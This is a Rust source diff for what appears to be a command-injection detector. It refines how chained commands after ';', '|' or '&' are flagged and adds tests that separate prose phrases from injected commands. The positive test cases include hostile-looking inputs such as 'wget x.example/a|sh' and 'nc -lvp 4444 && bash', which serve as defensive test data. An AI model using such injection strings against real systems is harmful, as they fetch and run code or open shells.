@@ -1372,6 +1372,11 @@ impl Rules {
         if !cs.any(SEMI | NEWLINE | BACKTICK | PIPE | AMP | DOLLAR | LT | GT) {
             return None;
         }
+        // Where the value's text starts: a separator before it opens the value.
+        let first_text = t
+            .iter()
+            .position(|c| !c.is_ascii_whitespace())
+            .unwrap_or(t.len());
         while at < t.len() {
             let c = t[at];
             let sep_len = match c {
@@ -1404,6 +1409,7 @@ impl Rules {
                 if self.command_at(rest, true).is_some()
                     || self.variable_command(t, rest)
                     || delay_probe(rest, blanks == 0)
+                    || (at <= first_text && c != b'&' && self.leading_command(rest))
                 {
                     return Some("rce-command");
                 }
@@ -1489,7 +1495,7 @@ impl Rules {
             )
         }) || memchr::memchr(b'/', arg)
             .is_some_and(|p| p < 32 && !arg[..p].contains(&b' '))
-            || (!arg.is_empty() && memchr::memchr3(b';', b'|', b'&', arg).is_some())
+            || self.chained_command(arg)
             || looks_like_host(arg)
             // A Windows drive or share path: `c:\`, `\\host\share`.
             || arg.len() >= 3
@@ -1606,6 +1612,56 @@ impl Rules {
             || (!arg.is_empty() && crate::find(whole, &assigned).is_some())
     }
 
+    /// After a separator that opens the value (`;top -b`, `|ls docs`): nothing came before it,
+    /// so no sentence is being continued; a value appended to a command line starts this way.
+    /// Any listed command with a word after it counts, everyday words included.
+    fn leading_command(&self, rest: &[u8]) -> bool {
+        let end = rest
+            .iter()
+            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
+            .unwrap_or(rest.len());
+        end > 0
+            && rest.get(end).is_some_and(|c| *c == b' ' || *c == b'\t')
+            && rest[end..]
+                .trim_ascii_start()
+                .first()
+                .is_some_and(|c| !c.is_ascii_whitespace())
+            && self.command_name(&rest[..end]).is_some()
+    }
+
+    /// Whether `arg` (what follows a command) chains another command after its first
+    /// separator: `x; id`, `x | sh`, `x && uname -a`. A list of phrases (`nc state; sc state`,
+    /// `sleep aid; sleep 8h`) chains words, not commands.
+    fn chained_command(&self, arg: &[u8]) -> bool {
+        let Some(p) = memchr::memchr3(b';', b'|', b'&', arg) else {
+            return false;
+        };
+        let rest = arg[p + 1..].trim_ascii_start();
+        let rest = rest
+            .strip_prefix(b"|")
+            .or_else(|| rest.strip_prefix(b"&"))
+            .unwrap_or(rest)
+            .trim_ascii_start();
+        let end = rest
+            .iter()
+            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
+            .unwrap_or(rest.len());
+        if end == 0 {
+            // `x;` `x|` at the end, or `x;/bin/sh`, `x|$y`: a path or substitution follows.
+            return rest.is_empty() || matches!(rest[0], b'/' | b'$' | b'`' | b'(' | b'{');
+        }
+        let Some(name) = self.command_name(&rest[..end]) else {
+            return false;
+        };
+        let after = rest[end..].trim_ascii_start();
+        !self.weak.contains(name)
+            || after.is_empty()
+            || matches!(
+                after[0],
+                b'-' | b'/' | b'$' | b'|' | b';' | b'&' | b'>' | b'<'
+            )
+    }
+
     /// The command a word names: itself, without a version (`python3.10`, `php7`), or the part
     /// before a dash (`ansible-config`); a glob (`ca?`) that matches one.
     fn command_name<'a>(&self, word: &'a [u8]) -> Option<&'a [u8]> {
@@ -1669,23 +1725,27 @@ impl Rules {
         // follows it.
         let typed = &s[..end];
         let technical_name = typed.iter().any(|c| matches!(c, b'-' | b'_' | b'.'));
-        let shell_args = technical_name
-            || rest.trim_ascii().is_empty()
-            || rest
-                .split(|c| c.is_ascii_whitespace())
-                .filter(|w| !w.is_empty())
-                .take(8)
-                .any(|w| {
-                    matches!(w[0], b'-' | b'/' | b'$' | b'~' | b'.' | b'\\')
-                        || w.iter().any(|c| {
-                            matches!(c, b'|' | b';' | b'&' | b'<' | b'>' | b'=' | b'*' | b'`')
-                        })
-                        || looks_like_host(w)
-                });
+        let shell_args =
+            technical_name || rest.trim_ascii().is_empty() || self.shell_like_args(rest);
         shell_args
             && self
                 .command_name(&s[..end])
                 .is_some_and(|name| !self.weak.contains(name))
+    }
+
+    /// Arguments as a command line has them: an option, a path, a variable, a redirection, a
+    /// glob, a host, or another command chained after a separator.
+    fn shell_like_args(&self, rest: &[u8]) -> bool {
+        rest.split(|c| c.is_ascii_whitespace())
+            .filter(|w| !w.is_empty())
+            .take(8)
+            .any(|w| {
+                matches!(w[0], b'-' | b'/' | b'$' | b'~' | b'.' | b'\\')
+                    || w.iter()
+                        .any(|c| matches!(c, b'<' | b'>' | b'=' | b'*' | b'`'))
+                    || looks_like_host(w)
+            })
+            || self.chained_command(rest)
     }
 
     /// `time sh -c id`, `nohup who`, `strace id`: a command runner followed by a command.
@@ -1735,8 +1795,12 @@ impl Rules {
             .iter()
             .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-' || *c == b'.'))
             .unwrap_or(arg.len());
+        // `sudo make me a sandwich` is a mug: the inner command needs nothing, or arguments
+        // that look like a command line's.
         w > 0
-            && (STRONG_COMMANDS.iter().any(|c| c.as_bytes() == &arg[..w]) || arg.starts_with(b"/"))
+            && (arg.starts_with(b"/")
+                || STRONG_COMMANDS.iter().any(|c| c.as_bytes() == &arg[..w])
+                    && (arg[w..].trim_ascii().is_empty() || self.shell_like_args(&arg[w..])))
     }
 }
 
@@ -2509,6 +2573,40 @@ mod class_tests {
             "Use {0} and {1} in templates -f flag",
         ] {
             assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn phrase_lists_and_mugs_are_prose() {
+        let r = Rules::new();
+        for b in [
+            "Sleep mask; sleep aid; sleep 8h",
+            "nc state; sc state",
+            "sudo make me a sandwich mug",
+            "cat toy; dog toy",
+            "time flies; time heals",
+            "& more stories",
+            "& other stories",
+            "| size | colour |",
+            "more to come; stay tuned",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+        for a in [
+            "nc x; id",
+            "sleep aid; uname -a",
+            "time sh -c id",
+            "nohup who",
+            "sudo uname -a",
+            "cat passwd; ls",
+            "wget x.example/a|sh",
+            "nc -lvp 4444 && bash",
+            "time curl h.example",
+            ";top -b",
+            "| more notes.txt",
+            "\n cat notes",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
         }
     }
 }
